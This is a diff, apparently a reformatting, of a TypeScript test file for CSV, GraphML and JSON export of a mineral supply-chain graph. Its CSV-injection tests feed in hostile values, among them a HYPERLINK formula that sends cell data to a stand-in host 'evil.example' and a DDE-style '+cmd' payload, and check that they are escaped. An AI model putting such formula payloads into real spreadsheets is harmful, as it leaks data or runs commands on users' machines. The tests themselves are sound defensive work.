@@ -57,7 +57,11 @@ function canonicalDocument(doc: { nodes: unknown[]; relationships: unknown[] }) 
 
 describe('columns', () => {
   it('puts the columns in the documented order', () => {
-    expect(NODE_CSV_COLUMNS.slice(0, 16).map((c) => c.name).join(',')).toBe(BRIEF_NODE_COLUMNS);
+    expect(
+      NODE_CSV_COLUMNS.slice(0, 16)
+        .map((c) => c.name)
+        .join(','),
+    ).toBe(BRIEF_NODE_COLUMNS);
     expect(RELATIONSHIP_CSV_COLUMNS.map((c) => c.name).join(',')).toBe(BRIEF_RELATIONSHIP_COLUMNS);
     expect(Object.fromEntries(NODE_CSV_COLUMNS.slice(0, 16).map((c) => [c.name, c.kind]))).toEqual({
       label: 'text',
@@ -141,7 +145,7 @@ describe('export of the contract fixture', () => {
     const scan = fixtureScan();
     const header = NODE_CSV_COLUMNS.map((c) => c.name).join(',');
     expect(graphToNodesCsv(scan)).toBe(
-      [
+      `${[
         header,
         'Company,acme,Acme Watches,JP,,,,,,81,,focal,,,,',
         'Company,t1a,Tier One Alpha,CN,,,,,,,,,,,,',
@@ -156,10 +160,10 @@ describe('export of the contract fixture', () => {
         'Country,PE,Peru,,,,,,,,,,false,,,',
       ]
         .map((line, i) => (i === 0 ? line : line + extraNodeCells))
-        .join('\r\n') + '\r\n',
+        .join('\r\n')}\r\n`,
     );
     expect(graphToRelationshipsCsv(scan)).toBe(
-      [
+      `${[
         BRIEF_RELATIONSHIP_COLUMNS,
         `SUPPLIES,CD,S-TIN-1,tin,0.3,manual,${UPDATED_AT}`,
         `SUPPLIES,CN,S-AU-1,gold,,manual,${UPDATED_AT}`,
@@ -174,7 +178,7 @@ describe('export of the contract fixture', () => {
         `SUPPLIES,t2,t1a,tin,,manual,${UPDATED_AT}`,
         `LOCATED_IN,S-TIN-1,PE,,,,${UPDATED_AT}`,
         `LOCATED_IN,acme,JP,,,,${UPDATED_AT}`,
-      ].join('\r\n') + '\r\n',
+      ].join('\r\n')}\r\n`,
     );
   });
 
@@ -235,7 +239,9 @@ describe('export of the contract fixture', () => {
     expect(edges[0]).toBe(
       `    <edge id="e0" source="CD" target="S-TIN-1"><data key="e_type">SUPPLIES</data><data key="e_metal">tin</data><data key="e_share">0.3</data><data key="e_source">manual</data><data key="e_updatedAt">${UPDATED_AT}</data></edge>`,
     );
-    expect(edges[12]).toBe(`    <edge id="e12" source="acme" target="JP"><data key="e_type">LOCATED_IN</data><data key="e_updatedAt">${UPDATED_AT}</data></edge>`);
+    expect(edges[12]).toBe(
+      `    <edge id="e12" source="acme" target="JP"><data key="e_type">LOCATED_IN</data><data key="e_updatedAt">${UPDATED_AT}</data></edge>`,
+    );
     expect(graph.slice(-3)).toEqual(['  </graph>', '</graphml>', '']);
   });
 
@@ -264,7 +270,9 @@ describe('XML escaping', () => {
       relationships: [RelationshipSchema.parse({ type: 'LOCATED_IN', from: 'a&b<c>"d\'', to: 'CD' })],
     };
     const xml = graphToGraphMl(scan, { exportedAt: EXPORTED_AT });
-    expect(xml).toContain('<node id="a&amp;b&lt;c&gt;&quot;d&apos;"><data key="n_label">Company</data><data key="n_name">Line one&#10;Line two</data>');
+    expect(xml).toContain(
+      '<node id="a&amp;b&lt;c&gt;&quot;d&apos;"><data key="n_label">Company</data><data key="n_name">Line one&#10;Line two</data>',
+    );
     expect(xml).toContain('<data key="n_tags">x\\|y|&lt;t&gt;</data>');
     expect(xml).toContain('<data key="n_name">Congo &lt;&quot;DRC&quot;&gt; &amp; &apos;friends&apos;</data>');
     expect(xml).toContain('<edge id="e0" source="a&amp;b&lt;c&gt;&quot;d&apos;" target="CD">');
@@ -340,13 +348,25 @@ describe('spreadsheet formulas (CSV injection)', () => {
       version: 1,
       nodes: [
         GraphNodeSchema.parse({ label: 'Company', id: '@evil', name: HYPERLINK, country: 'JP', tags: [CMD, '=2+3'], saqScore: 12.5 }),
-        GraphNodeSchema.parse({ label: 'Smelter', id: 'S1', name: "'t Hooft Metaal", country: 'NL', metal: 'tin', aliases: ['-Tin', 'Tin-B'], recycledOrScrap: false }),
+        GraphNodeSchema.parse({
+          label: 'Smelter',
+          id: 'S1',
+          name: "'t Hooft Metaal",
+          country: 'NL',
+          metal: 'tin',
+          aliases: ['-Tin', 'Tin-B'],
+          recycledOrScrap: false,
+        }),
       ],
       // A share below 0 cannot be stored ((0, 1]); written here to show a number column is left alone.
-      relationships: [{ type: 'SUPPLIES', from: 'S1', to: '@evil', metal: 'tin', share: -0.5, source: '+cmrt.xlsx', updatedAt: UPDATED_AT }],
+      relationships: [
+        { type: 'SUPPLIES', from: 'S1', to: '@evil', metal: 'tin', share: -0.5, source: '+cmrt.xlsx', updatedAt: UPDATED_AT },
+      ],
     } as GraphScan;
     const nodes = graphToNodesCsv(scan).split('\r\n');
-    expect(nodes[1]).toBe(`Company,'@evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",JP,,,,,,12.5,,'+cmd\\|' /C calc'!A0|=2+3,,,,${extraNodeCells}`);
+    expect(nodes[1]).toBe(
+      `Company,'@evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",JP,,,,,,12.5,,'+cmd\\|' /C calc'!A0|=2+3,,,,${extraNodeCells}`,
+    );
     expect(nodes[2]).toBe(`Smelter,S1,'t Hooft Metaal,NL,tin,unknown,'-Tin|Tin-B,false,,,,,,,,${extraNodeCells}`);
     expect(graphToRelationshipsCsv(scan).split('\r\n')[1]).toBe(`SUPPLIES,S1,'@evil,tin,-0.5,'+cmrt.xlsx,${UPDATED_AT}`);
     // JSON and GraphML are not read by spreadsheets: they keep the text as it is.
@@ -395,7 +415,10 @@ describe('round trips', () => {
   it('CSV export → CSV import → the same document, and the same store scan', async () => {
     const scan = fixtureScan();
     const csv = await readGraphCsv({ nodes: graphToNodesCsv(scan), relationships: graphToRelationshipsCsv(scan) });
-    expect(canonicalDocument(csv.document)).toEqual({ nodes: sortedNodes(scan.nodes), relationships: sortedRelationships(scan.relationships) });
+    expect(canonicalDocument(csv.document)).toEqual({
+      nodes: sortedNodes(scan.nodes),
+      relationships: sortedRelationships(scan.relationships),
+    });
 
     const target = await freshStore();
     await target.importGraph(csv.document);
@@ -414,9 +437,13 @@ describe('round trips', () => {
         const csv = await readGraphCsv({ nodes: graphToNodesCsv(scan), relationships: graphToRelationshipsCsv(scan) });
         expect(canonicalDocument(csv.document)).toEqual(expected);
         // The text is hostile ("=", "+", "-", "@" and "'" start names, ids, items), yet no cell starts a formula.
-        for (const cell of [...dataCells(graphToNodesCsv(scan)), ...dataCells(graphToRelationshipsCsv(scan))]) expect(cell).not.toMatch(FORMULA_START);
+        for (const cell of [...dataCells(graphToNodesCsv(scan)), ...dataCells(graphToRelationshipsCsv(scan))])
+          expect(cell).not.toMatch(FORMULA_START);
         // Bytes, as a file or an upload carries them.
-        const bytes = await readGraphCsv({ nodes: Buffer.from(graphToNodesCsv(scan)), relationships: Buffer.from(graphToRelationshipsCsv(scan)) });
+        const bytes = await readGraphCsv({
+          nodes: Buffer.from(graphToNodesCsv(scan)),
+          relationships: Buffer.from(graphToRelationshipsCsv(scan)),
+        });
         expect(bytes.document).toEqual(csv.document);
       }),
       { numRuns: 150 },
